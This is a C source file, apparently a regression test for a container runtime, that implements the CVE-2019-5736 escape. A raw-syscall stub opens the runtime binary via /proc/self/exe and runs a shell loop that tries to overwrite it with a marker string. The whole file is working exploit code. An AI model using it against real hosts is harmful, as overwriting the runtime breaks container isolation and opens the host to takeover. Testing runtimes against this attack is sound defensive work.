/* SPDX-License-Identifier: Apache-2.0 */

/* The attack of CVE-2019-5736: in an image it lies where the dynamic loader of the OCI runtime is looked for, and the entrypoint
 * is /proc/self/exe. So the kernel runs it in the place of the runtime, whose file it then keeps open; as soon as the runtime does
 * not run any more, the shell that it becomes tries to write to that file. No libc: the auxiliary vector is the runtime's. */

#if defined(__x86_64__)
static long breach_call(long number, const void *a, long b, long c)
{
        long result;
        register long d __asm__("r10") = 0;
        __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(d) : "rcx", "r11", "memory");
        return result;
}

enum { CALL_OPEN = 2, CALL_DUP2 = 33, CALL_EXECVE = 59, CALL_EXIT = 60, KEPT_FD = 9 };

__attribute__((noreturn, force_align_arg_pointer, visibility("default"))) void _start(void);
void _start(void)
{
        static const char script[] = "echo attacking; i=0; while [ $i -lt 100 ]; do (echo owned >/proc/self/fd/9) 2>/dev/null && "
                                     "{ echo overwritten; exit 0; }; i=$((i+1)); sleep 0.02; done; echo refused";
        const char *arguments[4];
        long fd = breach_call(CALL_OPEN, "/proc/self/exe", 0, 0);
        breach_call(CALL_DUP2, (const void *)fd, KEPT_FD, 0);
        arguments[0] = "sh";
        arguments[1] = "-c";
        arguments[2] = script;
        arguments[3] = 0;
        breach_call(CALL_EXECVE, "/bin/sh", (long)arguments, 0);
        breach_call(CALL_EXIT, 0, 0, 0);
        __builtin_unreachable();
}
#else
#error "the attack is written for x86-64"
#endif
